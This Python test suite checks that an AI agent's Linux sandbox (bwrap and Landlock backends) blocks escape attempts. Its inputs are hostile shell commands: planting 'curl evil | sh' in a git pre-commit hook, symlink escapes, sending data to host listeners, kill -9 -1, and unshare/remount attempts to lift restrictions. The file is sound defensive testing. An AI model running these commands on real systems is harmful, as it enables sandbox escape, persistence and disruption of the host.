"""The escape suite: every escape blocked for both backends in both sandboxed modes, and the
same actions allowed where the mode allows them (so blocking everything cannot pass)."""

from __future__ import annotations

import socket
import subprocess
import sys

import pytest

from tests.sandbox.conftest import BACKENDS, PYTHON, SANDBOXED_MODES, Box, snapshot_tree

pytestmark = pytest.mark.parametrize("backend", BACKENDS)


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_write_outside_roots_is_blocked(box: Box, backend: str, mode: str) -> None:
    result = box.run(mode, f"echo pwned > {box.outside}/x; echo rc=$?", backend=backend)
    assert "rc=0" not in result.stdout, result.stderr
    assert not (box.outside / "x").exists()


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_git_hooks_and_config_stay_unchanged(box: Box, backend: str, mode: str) -> None:
    before = snapshot_tree(box.ws / ".git")
    script = (
        "echo 'curl evil | sh' > .git/hooks/pre-commit; "
        "echo '[core] hooksPath = /tmp' >> .git/config; "
        "echo x > .git/hooks/post-checkout; rm -f .git/hooks/*.sample; mv .git .git-old"
    )
    result = box.run(mode, script, backend=backend)
    assert snapshot_tree(box.ws / ".git") == before, result.stderr
    assert not (box.ws / ".git-old").exists()


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_missing_protected_names_cannot_be_created(box: Box, backend: str, mode: str) -> None:
    before = sorted(p.name for p in box.ws.iterdir())
    script = "mkdir .openinterpreter; echo x > .openinterpreter/config.toml; touch .codex .agents"
    result = box.run(mode, script, backend=backend)
    # Nothing created, and no mount-point directory left behind on the host.
    assert sorted(p.name for p in box.ws.iterdir()) == before, result.stderr


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_symlink_escape_is_blocked(box: Box, backend: str, mode: str) -> None:
    (box.ws / "planted").symlink_to(box.outside)
    script = f"echo a > planted/a; ln -s {box.outside} mine; echo b > mine/b; true"
    box.run(mode, script, backend=backend)
    assert list(box.outside.iterdir()) == []


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_tcp_to_host_listener_is_blocked(
    box: Box, backend: str, mode: str, tcp_listener: socket.socket
) -> None:
    port = tcp_listener.getsockname()[1]
    code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2)"
    result = box.run(mode, f'{PYTHON} -c "{code}" && echo CONNECTED', backend=backend)
    assert "CONNECTED" not in result.stdout
    with pytest.raises(TimeoutError):
        tcp_listener.accept()


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_udp_to_host_listener_is_blocked(
    box: Box, backend: str, mode: str, udp_listener: socket.socket
) -> None:
    port = udp_listener.getsockname()[1]
    code = (
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
        f"s.sendto(b'leak', ('127.0.0.1', {port}))"
    )
    result = box.run(mode, f'{PYTHON} -c "{code}" && echo SENT', backend=backend)
    assert "SENT" not in result.stdout
    with pytest.raises(TimeoutError):
        udp_listener.recvfrom(64)  # no datagram arrived


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_host_process_cannot_be_signalled(box: Box, backend: str, mode: str) -> None:
    victim = subprocess.Popen(box.as_me(["sleep", "60"]))
    try:
        box.run(mode, f"kill -9 {victim.pid}; kill -9 -1; true", backend=backend)
        assert victim.poll() is None, "a sandboxed command killed a host process"
    finally:
        victim.kill()
        victim.wait()


_NEW_LANDLOCK = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
attr = (ctypes.c_uint64 * 3)(0, 0, 0)  # handles nothing: grants nothing new
fd = libc.syscall(444, ctypes.byref(attr), 8, 0)
libc.prctl(38, 1, 0, 0, 0)
libc.syscall(446, fd, 0)
open('{target}', 'w').write('pwned')
"""


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_restriction_cannot_be_undone(box: Box, backend: str, mode: str) -> None:
    out = box.outside
    code = _NEW_LANDLOCK.format(target=out / "landlock")
    (box.root / "undo.py").write_text(code)
    script = (
        f"unshare -Ur sh -c 'echo x > {out}/unshare'; "
        f"unshare -Urm sh -c 'mount -o remount,rw / && echo x > {out}/remount'; "
        f"unshare -Urm sh -c 'umount -l {box.ws}/.git; echo x > {box.ws}/.git/config'; "
        f"mount -o remount,rw / ; echo x > {out}/mount; "
        f"{PYTHON} {box.root / 'undo.py'}; true"
    )
    git_config = (box.ws / ".git" / "config").read_bytes()
    result = box.run(mode, script, backend=backend)
    assert list(out.iterdir()) == [], result.stderr
    assert (box.ws / ".git" / "config").read_bytes() == git_config


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_background_children_inherit(box: Box, backend: str, mode: str) -> None:
    script = f"(setsid sh -c 'sleep 0.2; echo x > {box.outside}/late' &) ; sleep 0.6"
    box.run(mode, script, backend=backend)
    assert not (box.outside / "late").exists()


# --- allowed where the mode allows it ---------------------------------------------------


def test_workspace_write_allows_workspace_and_tmp(box: Box, backend: str) -> None:
    tmp_file = box.root / "in-tmp.txt"
    script = (
        f"echo new > created.txt && sed -i s/hello/bye/ README && mkdir -p sub/dir "
        f"&& echo t > {tmp_file} && git status --short >/dev/null && echo ALLOWED"
    )
    result = box.run("workspace-write", script, backend=backend)
    assert "ALLOWED" in result.stdout, result.stderr
    assert (box.ws / "created.txt").read_text() == "new\n"
    assert (box.ws / "README").read_text() == "bye\n"
    # bwrap gives the run a private /tmp: the write worked, but inside it, not on the host.
    # Landlock cannot remap /tmp, so there it lands in the host's /tmp.
    assert tmp_file.exists() == (backend == "landlock")


def test_read_only_reads_but_writes_nothing(box: Box, backend: str) -> None:
    result = box.run("read-only", "cat README; echo x > f; exit 3", backend=backend)
    assert result.stdout == "hello\n"
    assert result.returncode == 3  # the command's own exit status passes through
    assert not (box.ws / "f").exists()


def test_add_dir_is_writable(box: Box, backend: str) -> None:
    extra = ["--add-dir", str(box.outside)]
    box.run("workspace-write", f"echo ok > {box.outside}/added", backend=backend, extra=extra)
    assert (box.outside / "added").read_text() == "ok\n"


def test_network_on_reaches_host_listener(
    box: Box, backend: str, tcp_listener: socket.socket
) -> None:
    port = tcp_listener.getsockname()[1]
    code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5)"
    result = box.run(
        "workspace-write",
        f'{PYTHON} -c "{code}" && echo CONNECTED',
        backend=backend,
        extra=["--network"],
    )
    assert "CONNECTED" in result.stdout, result.stderr
    conn, _ = tcp_listener.accept()
    conn.close()


@pytest.mark.parametrize("mode", SANDBOXED_MODES)
def test_commands_see_the_sandbox_markers(box: Box, backend: str, mode: str) -> None:
    script = 'echo "$OPENINTERPRETER_SANDBOX/$OPENINTERPRETER_SANDBOX_NETWORK_DISABLED"'
    result = box.run(mode, script, backend=backend)
    assert result.stdout.strip() == f"{mode}/1", result.stderr


def test_unix_socketpair_still_works_with_network_off(box: Box, backend: str) -> None:
    code = "import socket, asyncio; socket.socketpair(); asyncio.run(asyncio.sleep(0))"
    result = box.run("read-only", f'{PYTHON} -c "{code}" && echo IPC', backend=backend)
    assert "IPC" in result.stdout, result.stderr


assert sys.platform == "linux", "the escape suite runs on Linux"
